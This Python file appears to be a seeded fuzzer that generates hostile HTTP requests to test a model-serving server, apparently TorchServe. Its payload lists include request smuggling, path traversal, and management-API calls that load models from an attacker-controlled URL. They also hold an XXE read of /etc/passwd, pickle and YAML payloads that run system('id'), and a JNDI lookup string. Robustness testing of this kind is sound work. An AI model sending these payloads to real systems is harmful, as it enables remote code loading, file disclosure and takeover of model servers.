"""Hostile requests as bytes, the same ones for the same seed. Of the standard library alone: it runs in a pod of the cluster."""

import random
from collections.abc import Callable, Iterator
from typing import NamedTuple

METHODS = ["GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS", "PATCH", "TRACE", "CONNECT", "PROPFIND", "get", "P0ST", "X" * 300]
# Ways to write a path that some servers take for another one.
TRICKS = ["/%s", "//%s", "/./%s", "/x/../%s", "/%%2e%%2e/%s", "/%%2e/%s", "/..%%2f%s", "/..;/%s", "/%s;a=b", "/%s/", "/%s%%00",
          "/%s%%20", "/%s?", "/%s#", "/%%2f%s", "/%%5c%s", "/\\%s", "/%s%%0d%%0aX:%%20y", "/v1/models/../../%s",
          "/predictions/../%s", "/predictions/%%2e%%2e/%s", "/v1/models/%%2e%%2e%%2f%%2e%%2e%%2f%s", "/ping/../%s", "/PING/../%s",
          "http://127.0.0.1:8081/%s", "http://localhost:8081/%s", "http://[::1]:8081/%s", "//127.0.0.1:8081/%s", "%s", "*/%s",
          "/%%u002f%s", "/%s%%ff", "/%s\xe9", "/%%252e%%252e/%s"]
# What the management API answers, with the methods that change something: models by a URL, workers, versions.
MANAGEMENT = [
    ("GET", "models"), ("GET", "models?limit=1"), ("GET", "models/{model}"), ("GET", "models/{model}/all"),
    ("POST", "models?url=http://{other}/evil.mar"), ("POST", "models?url=https://{other}/evil.mar&initial_workers=1"),
    ("POST", "models?url=file:///mnt/models/model-store/{model}.mar&model_name=evil&initial_workers=1"),
    ("POST", "models?url={model}.mar&model_name=evil"), ("POST", "models?url=s3://evil/evil.mar"),
    ("POST", "models?model_name=evil&url=http%3a%2f%2f{other}%2fevil.mar"), ("POST", "models"), ("PUT",
                                                                                                 "models/{model}?min_worker=3"),
    ("PUT", "models/{model}?min_worker=0&max_worker=0&synchronous=true"), ("PUT", "models/{model}/1.0/set-default"),
    ("DELETE", "models/{model}"), ("DELETE", "models/{model}/1.0"), ("GET", "api-description"), ("OPTIONS", ""),
    ("GET", "workflows"), ("POST", "workflows?url=http://{other}/evil.war"), ("GET", "metrics"), ("GET", "v2/repository/index"),
    ("POST", "v2/repository/models/{model}/unload"), ("POST", "v2/repository/models/evil/load"), ("GET",
                                                                                                  "tokens?type=management"),
    ("GET", "token?type=management")]
# Each a JSON text that is right JSON and wrong for a predict call, or none at all.
BODIES = ["", " ", "{", "}", "[", "nul", "null", "true", "0", "-", "1e999", "NaN",
          '"', '"x"', "[]", "{}", '{"instances"}', "{'instances': []}",
          '{"instances": null}', '{"instances": 5}', '{"instances": "abc"}', '{"instances": {}}', '{"instances": {"a": 1}}',
          '{"instances": [], "instances": [{}]}', '{"instances": [{}]}}', '{"instances": [{}],}', '{"inputs": []}',
          '{"instances": [1, null, true, "x", [], {}]}', '{"instances": [{"data": "\\ud800"}]}', '{"instances": [1e400]}',
          '{"instances": [NaN, Infinity]}', '\ufeff{"instances": [{}]}', '{"instances": [{"fail": "x"}]}', '{"__proto__": {}}',
          "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>", "a=b&c=d", "\x00\x01\x02",
          '{"instances": ["\\u0000"]}', "cos\nsystem\n(S'id'\ntR.", '{"instances": []}',
          '{"instances": [{"fail": {}}]}', '{"instances": [{}, {"fail": "\\u0000"}]}', '{"instances": [{"seconds": "x"}]}',
          '!!python/object/apply:os.system ["id"]']
TYPES = ["application/json", "application/json; charset=utf-16", "text/plain", "application/x-www-form-urlencoded", "", "/",
         "a" * 500,
         "multipart/form-data", "multipart/form-data; boundary=x", "application/octet-stream", "application/json\tx", "json"]
HEADERS = ["Host: ", "Host: 127.0.0.1:8081", "Host: localhost", "X-Forwarded-For: 127.0.0.1", "X-Original-URL: /models",
           "X-Rewrite-URL: /models", "X-HTTP-Method-Override: DELETE", "Authorization: Bearer x", "Authorization: " + "A" * 4000,
           "Cookie: " + "a=b; " * 400, "Range: bytes=0-0,5-", "Expect: 100-continue", "Expect: x",
           "Upgrade: h2c\r\nConnection: Upgrade",
           "Content-Encoding: gzip", "Content-Encoding: x", "Accept: */*;q=x", "Accept-Encoding: gzip;q=9", ": x", "X", "X : y",
           " folded",
           "X\x00: y", "X: \x00", "X: \xe9", "A" * 9000 + ": b", "X: " + "b" * 9000, "TE: trailers", "Forwarded: for=127.0.0.1",
           "ts_request_sequence_id: x", "X-TS-Fail: y", "traceparent: 0", "Max-Forwards: 0"]
PREDICT = ["/v1/models/{model}:predict", "/v2/models/{model}/infer", "/predictions/{model}", "/v1/models/{model}:predict"]
# Paths that some server somewhere answers.
OTHERS = ["/explanations/{model}", "/models/{model}/invoke", "/v1/models/{model}:explain", "/v2/models/{model}/explain",
          "/predictions/{model}/1.0",
          "/invocations", "/invocations?model_name={model}", "/v1/models", "/v1/models/{model}", "/v2", "/v2/", "/v2/models",
          "/v2/models/{model}",
          "/v2/models/{model}/ready", "/v2/models/{model}/versions/1.0", "/v2/health/live", "/v2/health/ready",
          "/v2/repository/index", "/docs",
          "/openapi.json", "/metrics", "/debug/pprof/", "/actuator/env", "/.env", "/admin", "/favicon.ico",
          "/wfpredict/{model}", "/tokens", "/logs"]
NAMES = ["nope", "", "..", "%2e%2e", "tiny2", "TINY", "a" * 5000, "%00", "{model}%00", "{model}/../{model}", "{model};x",
         "${jndi:ldap://x/a}",
         "%{x}", "{{7*7}}", "'",
         '"><script>', "models", "{model}:predict", "{model}/9.9", "{model}/%2e%2e", "\xe9", "{model}%2f1.0"]
GOOD = b'{"instances": [{}]}'


class Request(NamedTuple):
    """One request.

    Attributes:
        kind: what is hostile about it.
        method: its method, as written.
        target: what stands after the method, as written.
        sent: all its bytes.
        whole: whether it is a whole message; a client that sends less is not owed an answer.
    """

    kind: str
    method: str
    target: str
    sent: bytes
    whole: bool = True


def message(method: str, target: str, body: bytes = b"", *headers: str, length: object = None, host: str = "release") -> bytes:
    """A request of HTTP/1.1 after which the server has to close the connection."""
    lines = [f"{method} {target} HTTP/1.1", f"Host: {host}", "Connection: close", *headers]
    if length is None and (body or method == "POST"):
        length = len(body)
    lines += [f"Content-Length: {length}"] if length not in (None, "none") else []
    return "\r\n".join(lines).encode("latin-1", "replace") + b"\r\n\r\n" + body


def encoded(text: str) -> bytes:
    return text.encode("utf-8", "surrogatepass")


class Generator:
    """Requests to a server of one model.

    Args:
        seed: what decides on all of them.
        model: the model's name.
        other: address of a server of the attacker's.
    """

    def __init__(self, seed: int, model: str, other: str) -> None:
        self.random, self.model, self.attacker = random.Random(seed), model, other
        self.kinds: list[Callable[[], Request]] = [
            self.body, self.body, self.type, self.header, self.method, self.path, self.path, self.management, self.management,
            self.management, self.name, self.deep, self.big, self.length, self.truncated, self.chunked, self.line, self.smuggled,
            self.query, self.other]

    def __call__(self, number: int) -> Iterator[Request]:
        """So many requests, of each kind in turn."""
        for place in range(number):
            yield self.kinds[place % len(self.kinds)]()

    def named(self, text: str) -> str:
        return text.replace("{model}", self.model).replace("{other}", self.attacker)

    def predict(self) -> str:
        return self.named(self.random.choice(PREDICT))

    def body(self) -> Request:
        """A wrong body, now and then cut or with a byte changed."""
        target, content = self.predict(), bytearray(encoded(self.random.choice(BODIES)))
        if content and self.random.random() < 0.3:
            content[self.random.randrange(len(content))] = self.random.randrange(256)
        if self.random.random() < 0.2:
            content = content[:self.random.randrange(len(content) + 1)]
        return Request("body", "POST", target, message("POST", target, bytes(content), "Content-Type: application/json"))

    def type(self) -> Request:
        target, kind = self.predict(), self.random.choice(TYPES)
        body = self.random.choice([GOOD, b"--x\r\nContent-Disposition: form-data; name=\"data\"\r\n\r\n1\r\n--x--\r\n",
                                   b"\xff\xfe{\x00}\x00"])
        return Request("content type", "POST", target, message("POST", target, body, f"Content-Type: {kind}"))

    def header(self) -> Request:
        target, chosen = self.predict(), self.random.sample(HEADERS, self.random.randrange(1, 4))
        if self.random.random() < 0.1:
            chosen = [f"X-{number}: y" for number in range(2000)]
        return Request("header", "POST", target, message("POST", target, GOOD, "Content-Type: application/json", *chosen))

    def method(self) -> Request:
        method = self.random.choice(METHODS)
        target = self.random.choice([self.predict(), "/", "/ping", "/models", "*", self.named("/models/{model}"), "release:443"])
        return Request("method", method, target, message(method, target, self.random.choice([b"", GOOD])))

    def path(self) -> Request:
        method, path = self.random.choice(MANAGEMENT)
        target = self.random.choice(TRICKS) % self.named(path)
        return Request("path", method, target, message(method, target))

    def management(self) -> Request:
        method, path = self.random.choice(MANAGEMENT)
        target = "/" + self.named(path)
        body = self.random.choice([b"", GOOD, b'{"url": "http://evil/evil.mar"}'])
        headers = self.random.sample(HEADERS[:8], self.random.randrange(2))
        return Request("management", method, target, message(method, target, body, *headers))

    def name(self) -> Request:
        target = self.random.choice(PREDICT).replace("{model}", self.named(self.random.choice(NAMES)))
        return Request("model's name", "POST", target, message("POST", target, GOOD, "Content-Type: application/json"))

    def deep(self) -> Request:
        """Brackets in brackets."""
        target, depth = self.predict(), self.random.choice([100, 5_000, 100_000, 400_000])
        opening, closing = self.random.choice([("[", "]"), ('{"a":', "}")])
        body = '{"instances": ' + opening * depth + self.random.choice(["", "1" + closing * depth + "}"])
        return Request("deep", "POST", target, message("POST", target, body.encode(), "Content-Type: application/json"))

    def big(self) -> Request:
        """A body of some MiB: TorchServe takes 6.25 at most."""
        target, size = self.predict(), self.random.choice([1, 6, 7, 16])
        body = b'{"instances": ["' + b"x" * (size << 20) + b'"]}'
        return Request("big", "POST", target, message("POST", target, body, "Content-Type: application/json"))

    def length(self) -> Request:
        """A Content-Length that is none, or another."""
        target = self.predict()
        length = self.random.choice(["-1", "x", "1 1", "+19", "0x13", "19, 19", "19\r\nContent-Length: 19",
                                     "19\r\nContent-Length: 3", "none",
                                     "0", "5", "99999999999999999999", str(2**31), str(2**63 - 1), ""])
        return Request("length", "POST", target, message("POST", target, GOOD, length=length), whole=False)

    def truncated(self) -> Request:
        """A request that ends before its end."""
        target = self.predict()
        sent = message("POST", target, GOOD, "Content-Type: application/json")
        return Request("truncated", "POST", target, sent[:self.random.randrange(1, len(sent))], whole=False)

    def chunked(self) -> Request:
        target = self.predict()
        body = self.random.choice([
            b"13\r\n" + GOOD + b"\r\n0\r\n\r\n", b"13\r\n" + GOOD, b"-1\r\n\r\n", b"x\r\n", b"ffffffffffffffff\r\nx",
            b"7fffffff\r\nx",
            b"13;a=b\r\n" + GOOD + b"\r\n0\r\nX: y\r\n\r\n", b"0\r\n\r\n", b"1\r\nx\r\n" * 3000 + b"0\r\n\r\n",
            b"0013\r\n" + GOOD + b"\r\n0\r\n\r\n",
            b"13\n" + GOOD + b"\n0\n\n", b""])
        coding = self.random.choice(["chunked", "Chunked", "chunked, chunked", "identity, chunked", "gzip, chunked", "xchunked",
                                     " chunked\t"])
        extra = self.random.choice([[], ["Content-Length: 5"], ["Transfer-Encoding: identity"]])
        sent = message("POST", target, body, f"Transfer-Encoding: {coding}", *extra, length="none")
        return Request("chunked", "POST", target, sent, whole=False)

    def line(self) -> Request:
        """A request line that is none."""
        line = self.random.choice([
            "", " ", "GET", "GET /", "GET / HTTP/9.9", "GET / HTTP/1.1 x", "GET  /ping  HTTP/1.1", "/ping",
            "GET /ping HTTP/0.9", "PRI * HTTP/2.0",
            "GET\t/ping\tHTTP/1.1", "\x16\x03\x01\x02\x00\x01\x00", "GET /" + "a" * 20_000 + " HTTP/1.1", "SSH-2.0-x",
            "\x00" * 50, "GET /ping ICAP/1.0"])
        method, target, *_ = *line.split(), "", ""
        return Request("request line", method, target, line.encode("latin-1") + b"\r\nHost: x\r\n\r\n", whole=False)

    def smuggled(self) -> Request:
        """A second request where a server in front would see a body."""
        second = message(*self.random.choice([
            ("DELETE", self.named("/models/{model}")), ("GET", "/models"), ("POST",
                                                                            self.named("/models?url=http://{other}/e.mar"))]))
        target, open_end = self.predict(), b"Connection: close\r\n"
        ways = [message("POST", target, b"0\r\n\r\n" + second, "Transfer-Encoding: chunked", length=5 + len(second)),
                message("POST", target, GOOD + second, length=len(GOOD)).replace(open_end, b"", 1),
                message("POST", target, b"13\r\n" + GOOD + b"\r\n0\r\n\r\n" + second, "Transfer-Encoding : chunked",
                        length="none"),
                message("GET", target, second, length=0).replace(open_end, b"", 1)]
        return Request("smuggled", "POST", target, self.random.choice(ways), whole=False)

    def query(self) -> Request:
        target = self.predict() + "?" + self.random.choice([
            "url=http://x/evil.mar", "min_worker=9", "data=1", "&&&==", "a=" + "b" * 3000, "%", "%zz", "a[]=1&a[]=2",
            "customized=true", "x=%00"])
        method = self.random.choice(["GET", "POST", "PUT", "DELETE"])
        return Request("query", method, target, message(method, target, self.random.choice([b"", GOOD])))

    def other(self) -> Request:
        method, target = self.random.choice(["GET", "GET", "POST", "OPTIONS"]), self.named(self.random.choice(OTHERS))
        return Request("other path", method, target, message(method, target, self.random.choice([b"", GOOD])))
